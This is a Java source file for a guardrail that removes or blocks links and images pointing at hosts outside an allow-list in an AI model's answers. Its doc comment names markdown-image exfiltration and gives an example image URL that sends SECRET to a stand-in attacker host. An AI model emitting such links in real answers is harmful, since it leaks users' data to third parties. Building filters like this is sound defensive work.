package io.troupe.guard;

import io.troupe.api.Checks;
import java.util.Set;

/**
 * Links and images in model answers and sent messages whose host is not on an allow-list: the channel of data
 * exfiltration through rendered markdown ({@code ![](https://evil.example/?q=SECRET)}). They are removed (each
 * becomes {@code [link removed]}) or the whole answer is blocked.
 *
 * @param enabled whether the guardrail runs
 * @param allow the hosts links may point at: exact names, or {@code *.example.com} for a domain and its subdomains
 * @param block whether to block the answer rather than remove the links
 */
public record LinkPolicy(boolean enabled, Set<String> allow, boolean block) {
    /** No link guardrail. */
    public static final LinkPolicy OFF = new LinkPolicy(false, Set.of(), false);

    public LinkPolicy {
        allow = Set.copyOf(Checks.notNull(allow, "LinkPolicy allow"));
    }

    /** Removes links to hosts other than {@code hosts}. */
    public static LinkPolicy removing(String... hosts) {
        return new LinkPolicy(true, Set.of(hosts), false);
    }

    /** Blocks answers with links to hosts other than {@code hosts}. */
    public static LinkPolicy blocking(String... hosts) {
        return new LinkPolicy(true, Set.of(hosts), true);
    }
}
